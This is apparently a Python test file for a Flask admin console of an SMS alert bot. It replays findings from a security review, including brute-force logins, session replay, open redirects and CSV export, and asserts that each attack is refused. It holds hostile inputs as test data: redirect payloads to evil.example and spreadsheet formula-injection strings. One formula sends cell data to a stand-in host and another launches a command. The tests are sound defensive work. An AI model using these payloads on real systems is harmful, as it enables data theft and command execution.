"""The console under attack (security review M2, L1, L2, L7, L10, M9 and informational items): each test
plays the attack over HTTP against the real app and shows it refused."""

import csv
import http.client
import io
import re
import threading
import urllib.parse
from datetime import timedelta

import pytest
from werkzeug.serving import make_server

from app import create_app
from bot.core import clock
from bot.store import audit, broadcasts, services, staff
from bot.web import context
from tests.helpers import PASSWORD, PUBLIC_URL, login, post, queued, token


@pytest.fixture
def checks(monkeypatch):
    """Every scrypt check the login makes: (hash checked, right or not)."""
    seen = []
    real = staff.check_password_hash

    def counting(pwhash, password):
        right = real(pwhash, password)
        seen.append((pwhash, right))
        return right

    monkeypatch.setattr(staff, "check_password_hash", counting)
    return seen


def password_hash(db, name):
    return db.execute("SELECT password_hash FROM staff WHERE name = ?", [name]).fetchone()[0]


def answer(response) -> str:
    """What a login page says, without the per-session CSRF token."""
    page = response.get_data(as_text=True)
    return f"{response.status_code} " + re.sub(r'name="csrf_token" value="[^"]+"', "", page)


# --- M2: parallel guesses ------------------------------------------------------------------------------


class Browser:
    """One attacker's connection to a real server: its own cookie and CSRF token, as a script keeps them."""

    def __init__(self, port):
        self.port = port
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        conn.request("GET", "/admin/login")
        reply = conn.getresponse()
        self.cookie = reply.getheader("Set-Cookie").split(";")[0]
        self.csrf = re.search(r'name="csrf_token" value="([^"]+)"', reply.read().decode())[1]
        conn.close()

    def login(self, name, password) -> int:
        body = urllib.parse.urlencode({"username": name, "password": password, "csrf_token": self.csrf})
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        conn.request(
            "POST", "/admin/login", body, {"Cookie": self.cookie, "Content-Type": "application/x-www-form-urlencoded"}
        )
        status = conn.getresponse().status
        conn.close()
        return status


@pytest.fixture
def server(members):
    """The app behind Werkzeug's threaded server, as `flask serve` and `make run` run it."""
    httpd = make_server("127.0.0.1", 0, members, threaded=True)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd.server_port
    httpd.shutdown()
    thread.join()


def test_twelve_parallel_wrong_guesses_check_at_most_five_passwords_and_lock(members, server, db, checks):
    browsers = [Browser(server) for _ in range(12)]
    start = threading.Barrier(len(browsers))
    statuses = []

    def guess(browser, n):
        start.wait()  # all twelve in flight at once
        statuses.append(browser.login("op", f"wrong guess {n}"))

    threads = [threading.Thread(target=guess, args=(b, n)) for n, b in enumerate(browsers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    real = password_hash(db, "op")
    assert statuses == [401] * 12
    assert len([h for h, _ in checks if h == real]) <= staff.MAX_WRONG_PASSWORDS  # 12 with the old read-then-write
    assert Browser(server).login("op", PASSWORD) == 401  # locked: even the right password waits 15 minutes
    assert len([h for h, _ in checks if h == real]) <= staff.MAX_WRONG_PASSWORDS


def test_five_wrong_in_a_row_lock_exactly_as_parallel_ones_do(members, client, db, checks):
    for _ in range(5):
        login(client, "op", "nope")
    assert "Too many wrong passwords" in login(client, "op").get_data(as_text=True)
    assert len([h for h, _ in checks if h == password_hash(db, "op")]) == 5


def from_address(app, address):
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def test_one_address_gets_twenty_failed_logins_in_15_minutes_whatever_the_names(members, app):
    attacker = from_address(app, "203.0.113.9")
    for n in range(staff.MAX_TRIES_PER_ADDRESS):
        assert login(attacker, f"name{n}", "guess").status_code == 401
    assert "Too many wrong passwords" in login(attacker, "adm").get_data(as_text=True)  # even a right one
    colleague = from_address(app, "198.51.100.7")
    assert login(colleague, "adm").status_code == 302  # other addresses are not locked out
    app.config["NOW"] += timedelta(minutes=16)
    assert login(attacker, "adm").status_code == 302
    with app.app_context():  # the rows of the names it tried are gone once their window is over
        assert [r[0] for r in context.get_db().execute("SELECT key FROM throttles")] == ["login:ip:203.0.113.9"]


def test_right_passwords_do_not_count_against_the_address(members, app):
    office = from_address(app, "192.0.2.1")
    for _ in range(staff.MAX_TRIES_PER_ADDRESS + 5):
        assert login(office, "vol").status_code == 302


# --- L2: no username enumeration ---------------------------------------------------------------------


def test_unknown_disabled_and_real_names_get_the_same_answers_after_the_same_work(members, client, db, checks):
    with members.app_context():
        staff.add(context.get_db(), context.vault(), "gone", "volunteer", None, PASSWORD, None, context.now())
        staff.disable(context.get_db(), "gone", context.now())
    seen = {}
    for name in ("op", "nobody-here", "gone"):
        checks.clear()
        seen[name] = [answer(login(client, name, "wrong password")) for _ in range(7)]
        assert len(checks) == 7, name  # one scrypt check per try: locked or unknown ones too (a dummy hash)
    assert seen["op"] == seen["nobody-here"] == seen["gone"]
    assert seen["op"][0].startswith("401") and "Wrong name or password." in seen["op"][0]
    assert "Too many wrong passwords" in seen["op"][4] and "Too many wrong passwords" in seen["op"][6]
    keys = {r["key"]: r["count"] for r in db["throttles"].rows}
    assert keys["login:name:nobody-here"] == 7  # every try counted per name, though no such member exists
    assert "nobody-here" not in str(audit.entries(db, limit=500))  # a typed name may be a mistyped password


# --- L1: sessions that really end ----------------------------------------------------------------------


def stolen(client):
    """A copy of the session cookie, as a thief or a second device keeps it."""
    return client.get_cookie("session", domain="bot.example.org").value


def replay(app, cookie, path="/admin/people"):
    thief = app.test_client()
    thief.set_cookie("session", cookie, domain="bot.example.org")
    return thief.get(path, base_url=PUBLIC_URL)


def test_logout_ends_every_session_of_that_member(members, client, app):
    login(client, "op")
    other_device = app.test_client()
    login(other_device, "op")
    cookie = stolen(client)
    assert replay(app, cookie).status_code == 200
    post(client, "/admin/logout", data={"csrf_token": token(client, "/admin")})
    assert replay(app, cookie).status_code == 302  # 200 while logout only cleared the browser's copy
    assert other_device.get("/admin/people", base_url=PUBLIC_URL).status_code == 302
    login(client, "op")
    assert client.get("/admin/people", base_url=PUBLIC_URL).status_code == 200  # a new login works


def test_disable_and_password_change_end_sessions(members, client, app):
    login(client, "op")
    cookie = stolen(client)
    cli = app.test_cli_runner()
    assert "at least 10" in cli.invoke(args=["staff", "password", "op"], input="short\n").output
    assert replay(app, cookie).status_code == 200  # a refused password changes nothing
    changed = cli.invoke(args=["staff", "password", "op"], input="a brand new password\n")
    assert changed.exit_code == 0 and "sessions are ended" in changed.output
    assert replay(app, cookie).status_code == 302
    assert login(client, "op", "a brand new password").status_code == 302
    cookie = stolen(client)
    admin = app.test_client()
    login(admin, "adm")
    post(admin, "/admin/staff/op/disable", data={"csrf_token": token(admin, "/admin/staff")})
    assert replay(app, cookie).status_code == 302


def test_an_admin_cannot_disable_themselves_nor_the_last_admin(members, app, db):
    """Review: an admin disabled himself with one click, and nothing could enable him again."""
    adm = app.test_client()
    login(adm, "adm")
    page = adm.get("/admin/staff", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "/admin/staff/adm/disable" not in page  # no button to disable yourself
    assert 'data-confirm="Disable op? They can no longer log in."' in page  # the others' ask first
    refused = post(adm, "/admin/staff/adm/disable", data={"csrf_token": token(adm, "/admin/staff")})
    assert refused.status_code == 302
    page = adm.get("/admin/staff", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "You cannot disable yourself: ask another admin." in page
    assert next(db["staff"].rows_where("name = 'adm'"))["disabled_at"] is None
    with app.app_context():
        staff.add(context.get_db(), context.vault(), "bea", "admin", None, PASSWORD, None, context.now(), lang="en")
    bea = app.test_client()
    login(bea, "bea")
    post(bea, "/admin/staff/adm/disable", data={"csrf_token": token(bea, "/admin/staff")})  # another admin may
    assert next(db["staff"].rows_where("name = 'adm'"))["disabled_at"] == "2026-02-02T15:00:00Z"
    assert adm.get("/admin/staff", base_url=PUBLIC_URL).status_code == 302  # adm's session ended
    cli = app.test_cli_runner()
    last = cli.invoke(args=["staff", "disable", "bea"])
    assert last.exit_code == 1 and "This is the last admin" in last.output  # not from the shell either
    assert next(db["staff"].rows_where("name = 'bea'"))["disabled_at"] is None
    with app.app_context(), pytest.raises(staff.Refused):
        staff.disable(context.get_db(), "bea", context.now(), actor="op")
    assert cli.invoke(args=["staff", "disable", "vol"]).exit_code == 0  # volunteers and operators: yes
    assert "is already disabled" in cli.invoke(args=["staff", "disable", "vol"]).output


def test_staff_enable_from_the_shell_and_the_console_lets_them_back_in(members, app, db):
    cli = app.test_cli_runner()
    op = app.test_client()
    login(op, "op")
    cookie = stolen(op)
    assert cli.invoke(args=["staff", "disable", "op"]).exit_code == 0
    assert login(app.test_client(), "op").status_code == 401
    assert "is not disabled" in cli.invoke(args=["staff", "enable", "vol"]).output
    assert "no staff member" in cli.invoke(args=["staff", "enable", "nobody"]).output
    enabled = cli.invoke(args=["staff", "enable", "op"])
    assert enabled.exit_code == 0 and "op enabled" in enabled.output
    assert login(app.test_client(), "op").status_code == 302  # the same password as before
    assert replay(app, cookie).status_code == 302  # sessions from before the disable stay ended
    entry = audit.entries(db)[1]
    assert (entry["actor"], entry["action"]) == ("cli", "staff enabled")
    assert entry["changes"] == {"disabled_at": ["2026-02-02T15:00:00Z", None]}

    admin = app.test_client()
    login(admin, "adm")
    csrf = token(admin, "/admin/staff")
    post(admin, "/admin/staff/vol/disable", data={"csrf_token": csrf})
    page = admin.get("/admin/staff", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "vol can no longer log in." in page and "/admin/staff/vol/enable" in page
    assert post(admin, "/admin/staff/vol/enable", data={"csrf_token": csrf}).status_code == 302
    assert "vol can log in again." in admin.get("/admin/staff", base_url=PUBLIC_URL).get_data(as_text=True)
    assert post(admin, "/admin/staff/vol/enable", data={"csrf_token": csrf}).status_code == 302  # a second tap
    assert post(admin, "/admin/staff/nobody/enable", data={"csrf_token": csrf}).status_code == 404
    assert [e["action"] for e in audit.entries(db)[:3]] == ["staff enabled", "staff disabled", "login"]
    volunteer = app.test_client()
    login(volunteer, "vol")
    assert post(volunteer, "/admin/staff/op/disable", data={"csrf_token": token(volunteer)}).status_code == 403


def test_a_session_ends_12_hours_after_login_however_busy(members, client, app):
    login(client, "op")
    for _ in range(11):  # a request every hour keeps the cookie fresh
        app.config["NOW"] += timedelta(hours=1)
        assert client.get("/admin/people", base_url=PUBLIC_URL).status_code == 200
    app.config["NOW"] += timedelta(hours=1, minutes=1)
    assert client.get("/admin/people", base_url=PUBLIC_URL).status_code == 302


# --- L7: redirects -------------------------------------------------------------------------------------


def test_queue_actions_go_back_to_our_own_queue_page_whatever_the_referer(members, client):
    login(client, "op")
    answer = client.post(
        "/admin/queue/1/cancel?status=all&city=tijuana",
        base_url=PUBLIC_URL,
        headers={"Referer": "https://evil.example/admin/queue"},
        data={"csrf_token": token(client, "/admin/queue")},
    )
    assert answer.status_code == 400  # Flask-WTF: a cross-site Referer on HTTPS is refused first
    answer = post(
        client,
        "/admin/queue/1/cancel?status=all&city=tijuana&next=https://evil.example",
        data={"csrf_token": token(client, "/admin/queue")},
    )
    assert answer.headers["Location"] == "/admin/queue?status=all&city=tijuana"


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/admin",
        "//evil.example",
        "/admin/../..//evil.example",
        "/admin@evil.example",
        "/admin\\@evil.example",
        "/administrator",
    ],
)
def test_login_next_stays_on_our_console(members, client, target):
    answer = post(
        client,
        f"/admin/login?next={urllib.parse.quote(target)}",
        data={"username": "vol", "password": PASSWORD, "csrf_token": token(client)},
    )
    assert answer.headers["Location"] == "/admin"


def test_no_redirect_is_built_from_a_forged_host(tmp_path):
    """TRUSTED_HOSTS comes from HEARINGBOT_PUBLIC_URL (bot/config.py); '//' is not merged into a redirect."""
    app = create_app(
        {
            "INSTANCE_DIR": str(tmp_path),
            "DATABASE": str(tmp_path / "t.db"),
            "SECRET_KEY": "k" * 40,
            "TWILIO_AUTH_TOKEN": "t",
            "PUBLIC_URL": PUBLIC_URL,
        }
    )
    client = app.test_client()
    assert client.get("/admin/login", headers={"Host": "evil.example"}).status_code == 400
    assert client.get("/admin/login", base_url=PUBLIC_URL).status_code == 200
    forged = client.get("/admin//staff", base_url=PUBLIC_URL)
    assert forged.status_code == 404 and "Location" not in forged.headers


# --- L10: staff names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "evil/admin",
        "cli",
        "system",
        "scheduler",
        "unknown",
        "anonymous",
        "(unknown)",
        "x",
        "a" * 33,
        "..",
        ".hidden",
        "ana maria",
        "ana%2fadmin",
    ],
)
def test_console_refuses_names_that_break_urls_or_forge_audit_actors(members, client, db, name):
    login(client, "adm")
    answer = post(
        client,
        "/admin/staff",
        data={
            "csrf_token": token(client, "/admin/staff"),
            "name": name,
            "role": "admin",
            "lang": "en",
            "password": PASSWORD,
        },
    )
    assert answer.status_code == 422
    assert "2 to 32 characters" in answer.get_data(as_text=True) or "reserved" in answer.get_data(as_text=True)
    assert db["staff"].count == 3


def test_cli_refuses_reserved_names(runner):
    assert "reserved" in runner.invoke(args=["staff", "add", "cli"], input="a long password\n").output
    assert "2 to 32" in runner.invoke(args=["staff", "add", "evil/admin"], input="a long password\n").output


@pytest.mark.parametrize("name", ["a.b", "x-y", "ana_maria", "ab..cd", "r2", "z" * 32])
def test_every_valid_name_can_be_disabled_from_the_console(members, client, db, name):
    login(client, "adm")
    csrf = token(client, "/admin/staff")
    post(
        client,
        "/admin/staff",
        data={"csrf_token": csrf, "name": name, "role": "admin", "lang": "en", "password": PASSWORD},
    )
    page = client.get("/admin/staff", base_url=PUBLIC_URL).get_data(as_text=True)
    action = re.search(rf'action="([^"]*/staff/{re.escape(name)}/disable)"', page)[1]
    assert post(client, action, data={"csrf_token": csrf}).status_code == 302
    assert next(db["staff"].rows_where("name = ?", [name]))["disabled_at"]


# --- M9: wide broadcasts wait for approval; the audit keeps old -> new and all its history ---------------


def add_people(app, n, first=0):
    """n registered people in Tijuana, written straight to the database (the webhook path is tested elsewhere)."""
    with app.app_context():
        db, vault, now = context.get_db(), context.vault(), clock.iso(context.now())
        with db.atomic():
            for i in range(first, first + n):
                phone = f"+52166400{i:05d}"
                db.execute(
                    "INSERT INTO contacts (channel, phone_hash, phone_enc, lang, city, state, consent_at, "
                    "created_at) VALUES ('sms', ?, ?, 'es', 'tijuana', 'registered', ?, ?)",
                    [vault.lookup_hash(phone), vault.encrypt(phone), now, now],
                )


def send_broadcast(client, **fields):
    """The composer's form, past its confirm step (confirmed=1)."""
    data = {"csrf_token": token(client, "/admin/broadcasts"), "text_es": "Retén en la carretera.", "confirmed": "1"}
    return post(client, "/admin/broadcasts", data=data | fields)


def test_a_volunteers_broadcast_to_over_500_people_waits_for_an_operator(members, app, db):
    add_people(app, broadcasts.APPROVAL_OVER + 1)
    volunteer, operator = app.test_client(), app.test_client()
    login(volunteer, "vol"), login(operator, "op")
    send_broadcast(volunteer)
    page = volunteer.get("/admin/broadcasts", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "would reach 501 people: it waits for an operator" in page and "Retén en la carretera." in page
    assert broadcasts.get(db, 1)["status"] == "awaiting_approval" and queued(db) == 0
    csrf = token(volunteer, "/admin/broadcasts")
    assert post(volunteer, "/admin/broadcasts/1/approve", data={"csrf_token": csrf}).status_code == 403
    assert "Approve and send" in operator.get("/admin/broadcasts", base_url=PUBLIC_URL).get_data(as_text=True)
    assert (
        post(
            operator, "/admin/broadcasts/1/approve", data={"csrf_token": token(operator, "/admin/broadcasts")}
        ).status_code
        == 302
    )
    b = broadcasts.get(db, 1)
    assert (b["status"], b["approved_by"], b["approved_at"], queued(db)) == (
        "sending",
        "op",
        "2026-02-02T15:00:00Z",
        501,
    )
    assert [e["action"] for e in audit.entries(db)[:2]] == ["broadcast approved", "broadcast awaiting approval"]
    assert audit.entries(db)[0]["changes"] == {"status": ["awaiting_approval", "sending"]}


def test_waiting_broadcasts_can_be_cancelled_and_small_or_operator_ones_go_at_once(members, app, db):
    add_people(app, broadcasts.APPROVAL_OVER)
    volunteer, operator = app.test_client(), app.test_client()
    login(volunteer, "vol"), login(operator, "op")
    send_broadcast(volunteer)  # exactly 500: no approval needed
    assert broadcasts.get(db, 1)["status"] == "sending" and queued(db) == 500
    add_people(app, 1, first=broadcasts.APPROVAL_OVER)
    send_broadcast(operator)  # an operator's own broadcast goes at once, whatever its size
    assert broadcasts.get(db, 2)["status"] == "sending" and queued(db) == 500 + 501
    send_broadcast(volunteer)
    assert broadcasts.get(db, 3)["status"] == "awaiting_approval"
    post(volunteer, "/admin/broadcasts/3/cancel", data={"csrf_token": token(volunteer, "/admin/broadcasts")})
    assert broadcasts.get(db, 3)["status"] == "cancelled" and queued(db) == 1001
    assert audit.entries(db)[0]["changes"] == {"status": ["awaiting_approval", "cancelled"]}
    operator_page = operator.get("/admin/broadcasts", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "Approve and send" not in operator_page  # nothing left to approve


def test_send_with_the_members_role_as_the_sms_alert_path_calls_it(members, app, db):
    add_people(app, broadcasts.APPROVAL_OVER + 1)
    with app.app_context():
        db2, now, places = context.get_db(), context.now(), context.places()
        for role, status in (("volunteer", "awaiting_approval"), ("operator", "sending"), ("admin", "sending")):
            bid = broadcasts.create(db2, "someone", "sms", broadcasts.Target(), {"es": "Cuidado."}, "es", now)
            broadcasts.send(db2, bid, "someone", now, places, role=role)
            assert broadcasts.get(db2, bid)["status"] == status, role
        with pytest.raises(broadcasts.BroadcastError, match="not awaiting approval"):
            broadcasts.approve(db2, bid, "op", now, places)
        assert broadcasts.approve(db2, 1, "op", now, places) == 501


def test_shelter_edits_are_audited_field_by_field_old_to_new(members, app, client, db):
    with app.app_context():
        before = services.as_row(services.all_services(context.get_db())[0])
    shelter_id = db.execute("SELECT id FROM services ORDER BY position, id LIMIT 1").fetchone()[0]
    form = {k: v for k, v in before.items() if k not in ("serves", "approximate")}
    form |= {"phone": "+52 656 000 6666", "verified_at": "2026-01-30", "serves": before["serves"].split(";")}
    if before["approximate"] == "yes":
        form["approximate"] = "on"
    login(client, "vol")
    path = f"/admin/shelters/{shelter_id}"
    assert post(client, path, data={"csrf_token": token(client, path), **form}).status_code == 302
    entry = audit.entries(db)[0]
    assert (entry["action"], entry["actor"]) == ("shelter saved", "vol")
    assert entry["changes"] == {
        "phone": [before["phone"] or "", "+52 656 000 6666"],
        "verified_at": [before["verified_at"], "2026-01-30"],
    }
    login(client, "adm")
    page = client.get("/admin/audit", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "Phone: " in page and "→ +52 656 000 6666" in page


def test_failed_logins_cannot_push_staff_actions_off_the_audit_page_and_every_page_is_reachable(members, app, db):
    admin = app.test_client()
    login(admin, "adm")
    post(admin, "/admin/staff/vol/disable", data={"csrf_token": token(admin, "/admin/staff")})
    with app.app_context():
        db2 = context.get_db()
        for _ in range(250):  # what 250 anonymous failed logins leave behind
            audit.record(db2, "(unknown)", "login failed", context.now(), failed=1)
        for n in range(230):
            audit.record(db2, "adm", "queue cancel", context.now(), message=n)
    page = admin.get("/admin/audit", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "login failed" not in page and "Failed logins in the last 24 hours: 250." in page
    seen, path = [], "/admin/audit"
    while path:
        page = admin.get(path, base_url=PUBLIC_URL).get_data(as_text=True)
        seen += re.findall(r'<tr><td data-label="#">(\d+)</td>', page)
        more = re.search(r'href="([^"]+)" rel="next"', page)
        path = more[1].replace("&amp;", "&") if more else None
    actions = [e["action"] for e in audit.entries(db, limit=10_000, logins=False)]
    assert len(seen) == len(actions) and "staff disabled" in actions  # the whole history, page by page
    assert len(seen) > 200
    logins_page = admin.get("/admin/audit?logins=1", base_url=PUBLIC_URL).get_data(as_text=True)
    assert logins_page.count("login failed") == 100


# --- informational: ids too big, unknown places, headers ------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/admin/queue/99999999999999999999999/cancel",
        "/admin/broadcasts/99999999999999999999999/cancel",
        "/admin/broadcasts/99999999999999999999999/approve",
    ],
)
def test_huge_ids_are_a_404_not_a_500(members, client, path):
    login(client, "adm")
    assert post(client, path, data={"csrf_token": token(client, "/admin")}).status_code == 404
    assert client.get("/admin/shelters/99999999999999999999999", base_url=PUBLIC_URL).status_code == 404
    assert client.get("/admin/audit?before=99999999999999999999999", base_url=PUBLIC_URL).status_code == 200


@pytest.mark.parametrize("field", [{"city": "atlantis"}, {"court": "nowhere"}, {"lang": "xx"}])
def test_a_broadcast_to_an_unknown_place_is_a_form_error_and_leaves_no_draft(members, client, db, field):
    login(client, "vol")
    answer = send_broadcast(client, **field)
    assert answer.status_code == 302
    page = client.get("/admin/broadcasts", base_url=PUBLIC_URL).get_data(as_text=True)
    assert "Unknown city, court or language" in page
    assert db["broadcasts"].count == 0
    preview = post(
        client,
        "/admin/broadcasts/preview",
        data={"csrf_token": token(client, "/admin/broadcasts"), "text_es": "x", **field},
    )
    assert preview.status_code == 400 and "Unknown city" in preview.json["error"]


def test_hsts_everywhere_and_console_pages_never_cached(members, client):
    login(client, "op")
    for path in ("/admin/people", "/admin/queue", "/admin/messages", "/admin/login", "/admin/shelters.csv"):
        headers = client.get(path, base_url=PUBLIC_URL).headers
        assert headers["Cache-Control"] == "no-store", path
        assert headers["Strict-Transport-Security"] == "max-age=31536000", path
    assert client.get("/healthz", base_url=PUBLIC_URL).headers["Strict-Transport-Security"] == "max-age=31536000"


# --- L4: formulas in the shelter export ----------------------------------------------------------------


def test_shelter_export_defuses_formulas_and_round_trips_through_import(members, app, client, db):
    with app.app_context():
        first = services.all_services(context.get_db())[0]
        evil = services.as_row(first) | {
            "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "address": "@SUM(1+1)*cmd|' /C calc'!A0",
            "phone": "+52 656 123 4567",
            "notes_en": "-2+3",
            "source": "+cmd",
        }
        checked, errors = services.check_row(evil, 1, context.places())
        assert not errors
        services.save_one(context.get_db(), first.id, checked)
        before = [services.as_row(s) for s in services.all_services(context.get_db())]
    login(client, "vol")
    exported = client.get("/admin/shelters.csv", base_url=PUBLIC_URL).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells and "'+52 656 123 4567" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'+cmd" in cells
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    assert risky == []  # only plain numbers (longitudes) may start with '-'
    upload = {"csrf_token": token(client, "/admin/shelters"), "file": (io.BytesIO(exported.encode()), "s.csv")}
    assert post(client, "/admin/shelters/import", data=upload).status_code == 302
    with app.app_context():
        assert [services.as_row(s) for s in services.all_services(context.get_db())] == before
    assert client.get("/admin/shelters.csv", base_url=PUBLIC_URL).get_data(as_text=True) == exported
